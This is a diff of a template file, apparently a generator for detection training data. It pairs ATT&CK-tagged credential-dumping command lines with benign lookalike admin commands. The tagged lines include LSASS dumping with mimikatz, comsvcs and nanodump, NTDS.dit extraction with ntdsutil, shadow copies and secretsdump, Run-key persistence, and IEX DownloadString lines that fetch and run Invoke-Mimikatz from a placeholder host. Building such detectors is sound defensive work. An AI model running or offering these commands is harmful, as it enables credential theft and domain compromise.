@@ -47,13 +47,13 @@ comsvcs-loop cmd +T1003.001: for /f "tokens=1,2 delims= " %A in ('"tasklist /fi 
 comsvcs-ps powershell +T1003.001: «rundll32.exe¦& rundll32» C:\Windows\System32\comsvcs.dll, «MiniDump¦#24» (Get-Process lsass).Id «$env:TEMP\‹name›.dmp¦‹dir›\‹name›.dmp» full
 mimikatz-logon cmd +T1003.001: «mimikatz¦mimikatz.exe¦‹dir›\mimikatz.exe¦‹dir›\‹name›.exe» «privilege::debug ¦"privilege::debug" ¦"log ‹name›.log" "privilege::debug" »"sekurlsa::«logonpasswords¦logonPasswords full¦msv¦wdigest¦kerberos¦tspkg¦ekeys¦credman»" «exit¦"exit"»
 mimikatz-minidump cmd +T1003.001: ‹dir›\«mimikatz¦‹name›».exe "sekurlsa::minidump ‹dir›\‹name›.dmp" "sekurlsa::«logonpasswords¦logonpasswords full¦minidump»" exit
-pypykatz-lsa cmd +T1003.001: pypykatz «live lsa¦lsa minidump ‹file›¦lsa -k ‹dir› minidump ‹file›»
+pypykatz-lsa cmd +T1003.001: pypykatz «live lsa¦lsa minidump ‹file›¦lsa minidump ‹file› -k ‹dir›»
 pypykatz-linux bash +T1003.001: pypykatz lsa minidump ‹ldir›/«lsass.dmp¦‹name›.dmp»
 lsassy bash +T1003.001: lsassy -d ‹fqdn› -u ‹user› «-p '‹pass›'¦-H ‹hash›» ‹ip›« -m comsvcs¦ -m dllinject¦ -m procdump¦»
 cme-lsassy bash +T1003.001: «crackmapexec¦cme¦nxc¦netexec» smb ‹ip› -u ‹user› «-p '‹pass›'¦-H ‹hash›» -M «lsassy¦nanodump¦procdump¦handlekatz¦mimikatz»
 nanodump cmd +T1003.001: ‹dir›\«nanodump¦nanodump.x64¦‹name›».exe «--write ‹dir›\‹name›.dmp¦--fork --write ‹dir›\‹name›¦-sc -w ‹dir›\‹name›.dmp --valid¦--snapshot --valid --write ‹dir›\‹name›»
 dump-tools cmd +T1003.001: ‹dir›\«Dumpert.exe¦Outflank-Dumpert.exe¦SharpDump.exe¦SafetyKatz.exe¦HandleKatz.exe --pid:‹pid› --outfile:‹name›¦xordump.exe -out ‹dir›\‹name› -x 0x41¦PPLdump.exe lsass.exe ‹dir›\‹name›.dmp¦MirrorDump.exe -f ‹name›¦physmem2profit.exe¦LsassSilentProcessExit.exe ‹pid› 0¦SilentTrinity_lsass.exe»
-lolbin-dump cmd +T1003.001: «sqldumper.exe ‹pid› 0 0x0110«0¦:40»¦createdump.exe -u -f ‹dir›\lsass.dmp ‹pid›¦C:\Windows\System32\rdrleakdiag.exe /p ‹pid› /o ‹dir› /fullmemdmp /wait 1¦tttracer.exe -dumpFull -attach ‹pid›¦avdump.exe --pid ‹pid› --exception_ptr 0 --thread_id 0 --dump_level 1 --dump_file ‹dir›\lsass.dmp¦DumpMinitool.exe --file ‹dir›\lsass.dmp --processId ‹pid› --dumpType Full¦"C:\Program Files\Cisco Systems\Cisco Jabber\x64\ProcessDump.exe" (ps lsass).id ‹dir›\lsass.dmp»
+lolbin-dump cmd +T1003.001: «sqldumper.exe ‹pid› 0 0x0110«¦0:40»¦createdump.exe -u -f ‹dir›\lsass.dmp ‹pid›¦C:\Windows\System32\rdrleakdiag.exe /p ‹pid› /o ‹dir› /fullmemdmp /wait 1¦tttracer.exe -dumpFull -attach ‹pid›¦avdump.exe --pid ‹pid› --exception_ptr 0 --thread_id 0 --dump_level 1 --dump_file ‹dir›\lsass.dmp¦DumpMinitool.exe --file ‹dir›\lsass.dmp --processId ‹pid› --dumpType Full¦"C:\Program Files\Cisco Systems\Cisco Jabber\x64\ProcessDump.exe" (ps lsass).id ‹dir›\lsass.dmp»
 out-minidump powershell +T1003.001: «Get-Process lsass | Out-Minidump« -DumpFilePath ‹dir›¦»¦. .\Out-Minidump.ps1; Get-Process -Name lsass | Out-Minidump¦IEX (New-Object Net.WebClient).DownloadString('http://‹ip›/Out-Minidump.ps1'); gps lsass | Out-Minidump»
 minidump-reflect powershell +T1003.001: $«m¦md» = [PSObject].Assembly.GetType('System.Management.Automation.WindowsErrorReporting').GetNestedType('NativeMethods','NonPublic').GetMethod('MiniDumpWriteDump',[Reflection.BindingFlags]'NonPublic, Static'); $p = Get-Process lsass; $f = New-Object IO.FileStream('‹dir›\‹name›.dmp',[IO.FileMode]::Create)
 invoke-mimikatz powershell +T1003.001: «IEX (New-Object Net.WebClient).DownloadString('http«s¦»://‹ip›/«Invoke-Mimikatz¦‹name›».ps1'); ¦Import-Module .\Invoke-Mimikatz.ps1; ¦»Invoke-Mimikatz «-DumpCreds¦-Command '"sekurlsa::logonpasswords"'¦-DumpCreds -ComputerName ‹server›»
@@ -61,7 +61,7 @@ taskmgr-dump-copy cmd +T1003.001: «copy¦move¦xcopy» C:\Users\‹user›\AppD
 lsass-werfault cmd +T1003.001: reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\lsass.exe" /v «ReportingMode /t REG_DWORD /d 2¦LocalDumpFolder /t REG_SZ /d ‹dir›» /f
 ntdsutil-ifm cmd +T1003.003: «ntdsutil¦ntdsutil.exe» «"ac i ntds"¦"activate instance ntds"¦"ac in ntds"» «"ifm"¦ifm» "«create full¦cr fu¦create sysvol full» ‹dir›« ¦\‹name›»" «q q¦quit quit¦"q" "q"»
 ntdsutil-snapshot cmd +T1003.003: ntdsutil «snapshot "activate instance ntds" create quit quit¦snapshot "mount {‹guid›}" quit quit¦"snapshot" "list all" "mount ‹n›" "q" "q"»
-vss-ntds cmd +T1003.003: «copy¦xcopy /h¦robocopy» ‹vss›\Windows\NTDS\«ntds.dit¦NTDS.dit¦NTDS.DIT» ‹file›
+vss-ntds cmd +T1003.003: «copy¦xcopy /h» ‹vss›\Windows\NTDS\«ntds.dit¦NTDS.dit¦NTDS.DIT» ‹file›
 vss-create-ntds cmd +T1003.003: vssadmin«.exe¦» create shadow /for=C: «&&¦&» copy ‹vss›\windows\ntds\ntds.dit ‹file›
 esentutl-ntds cmd +T1003.003: «esentutl¦esentutl.exe» /y «/vss C:\Windows\NTDS\ntds.dit¦‹vss›\Windows\NTDS\ntds.dit» /d ‹file›
 diskshadow-ntds cmd +T1003.003: «diskshadow /s ‹file› && ¦»copy «z¦x¦s»:\windows\ntds\ntds.dit ‹dir›\
@@ -69,7 +69,7 @@ wmic-ntds cmd +T1003.003: wmic /node:‹server› /user:‹domain›\‹user› 
 wbadmin-ntds cmd +T1003.003: wbadmin start backup -backupTarget:\\‹server›\share -include:C:\Windows\NTDS\NTDS.dit,C:\Windows\System32\config\SYSTEM -quiet
 secretsdump-ntds bash +T1003.003: «secretsdump.py¦impacket-secretsdump» -ntds ‹lfile› -system ‹lfile›« -hashes lmhash:nthash¦» LOCAL
 secretsdump-vss bash +T1003.003: «secretsdump.py¦impacket-secretsdump» -use-vss ‹domain›/‹user›:'‹pass›'@‹ip›
-cme-ntds bash +T1003.003: «crackmapexec¦cme¦nxc¦netexec» smb ‹ip› -u ‹user› «-p '‹pass›'¦-H ‹hash›» «--ntds¦--ntds vss¦-M ntdsutil¦--ntds drsuapi»
+cme-ntds bash +T1003.003: «crackmapexec¦cme¦nxc¦netexec» smb ‹ip› -u ‹user› «-p '‹pass›'¦-H ‹hash›» «--ntds¦--ntds vss¦-M ntdsutil»
 ps-ntds powershell +T1003.003: «Invoke-NinjaCopy -Path "C:\Windows\NTDS\ntds.dit" -LocalDestination "‹dir›\‹name›"¦Copy-Item "‹vss›\Windows\NTDS\ntds.dit" ‹dir›¦Get-ADDBAccount -All -DBPath '‹dir›\ntds.dit' -BootKey ‹hash›¦[System.IO.File]::Copy('‹vss›\Windows\NTDS\ntds.dit','‹dir›\‹name›')»
 dsdbutil cmd +T1003.003: dsdbutil.exe "activate instance ntds" "snapshot" "create" "quit" "quit"
 mklink-ntds cmd +T1003.003: mklink /D C:\‹name› ‹vss›\ & copy C:\‹name›\Windows\NTDS\ntds.dit ‹dir›
@@ -99,15 +99,16 @@ run-key-cmd cmd +T1547.001: «reg¦reg.exe» add «"HKCU¦"HKLM»\Software\Micro
 run-key-ps powershell +T1547.001: «Set-ItemProperty¦New-ItemProperty» -Path "«HKCU¦HKLM»:\Software\Microsoft\Windows\CurrentVersion\«Run¦RunOnce»" -Name ‹name› -Value "‹dir›\‹name›.«exe¦vbs¦bat»"
 near-procdump cmd: «procdump¦procdump64.exe» «-accepteula ¦»-ma «w3wp.exe¦‹name›.exe¦‹pid›¦outlook¦-e ‹name›.exe» ‹dir›\‹name›.dmp
 near-rundll cmd: rundll32.exe «C:\Windows\System32\comsvcs.dll,DllGetClassObject¦shell32.dll,Control_RunDLL ‹name›.cpl¦C:\Program Files\‹Word›\‹name›.dll,Start»
-near-tasklist cmd: «tasklist /fi "imagename eq lsass.exe"¦tasklist /svc /fi "imagename eq ‹name›.exe"¦wmic process where name="lsass.exe" get workingsetsize»
+lsass-looked-up cmd +T1057: tasklist«.exe¦» «/fi¦/FI» "«imagename¦IMAGENAME» eq lsass.exe"
+near-tasklist cmd: «tasklist /fi "imagename eq svchost.exe"¦tasklist /svc /fi "imagename eq ‹name›.exe"¦wmic process where name="lsass.exe" get workingsetsize»
 near-get-process powershell: «Get-Process lsass | select WorkingSet,CPU¦Get-Process ‹name› | Format-List *¦(Get-Process -Name lsass).HandleCount»
 near-ntdsutil cmd: ntdsutil «"metadata cleanup" "remove selected server ‹server›" q q¦"activate instance ntds" files integrity quit quit¦"set dsrm password" "reset password on server null" q q¦roles connections "connect to server ‹server›" q "transfer pdc" q q¦"semantic database analysis" go q q»
 near-ntds-folder cmd: «dir C:\Windows\NTDS¦icacls C:\Windows\NTDS¦repadmin /showrepl¦dcdiag /v¦esentutl /mh ‹dir›\‹name›.edb¦esentutl /g "C:\ProgramData\‹Word›\‹name›.edb"»
 near-vssadmin cmd: vssadmin «list shadows¦list shadowstorage¦list writers¦create shadow /for=D:¦resize shadowstorage /for=D: /on=D: /maxsize=‹n›GB»
 near-bcdedit cmd: «bcdedit¦bcdedit /enum all¦bcdedit /set {default} description "‹Word›"¦wbadmin get versions¦wbadmin start backup -backupTarget:E: -include:D: -quiet»
-near-wevtutil cmd: wevtutil «qe System /c:‹n› /f:text¦gl Security¦el¦sl Application /ms:‹pid›000¦epl Security ‹dir›\‹name›.evtx»
+near-wevtutil cmd: wevtutil «qe System /c:‹n› /f:text¦gl Security¦el¦sl Application /ms:‹pid›000»
 near-eventlog powershell: «Get-EventLog -LogName Security -Newest ‹n›¦Get-WinEvent -ListLog *¦Limit-EventLog -LogName Application -MaximumSize ‹n›MB¦New-EventLog -LogName Application -Source ‹Word›»
-near-defender powershell: «Set-MpPreference -DisableRealtimeMonitoring $false¦Get-MpPreference | select ExclusionPath¦Set-MpPreference -ScanScheduleDay ‹n›¦Update-MpSignature¦Remove-MpPreference -ExclusionPath ‹dir›»
+near-defender powershell: «Set-MpPreference -DisableRealtimeMonitoring $false¦Get-MpPreference | select ScanScheduleDay¦Set-MpPreference -ScanScheduleDay ‹n›¦Update-MpSignature¦Remove-MpPreference -ExclusionPath ‹dir›»
 near-schtasks cmd: schtasks «/query /fo LIST /v¦/run /tn "\‹Word› Backup"¦/change /tn "‹Word› Backup" /disable¦/delete /tn ‹name› /f¦/query /tn "\Microsoft\Windows\Defrag\ScheduledDefrag"»
 near-service cmd: sc «query ‹name›¦qc ‹name›¦start ‹name›¦config ‹name› start= auto¦failure ‹name› reset= 60 actions= restart/5000¦\\‹server› query»
 near-run-key cmd: reg «query "HKLM\Software\‹Word›\‹Word›\Run" /v Last¦add "HKCU\Software\‹Word›\Run" /v ‹name› /d ‹n› /f¦query "HKCU\Software\‹Word›\AutoStart" /ve¦delete "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v ‹Word› /f»
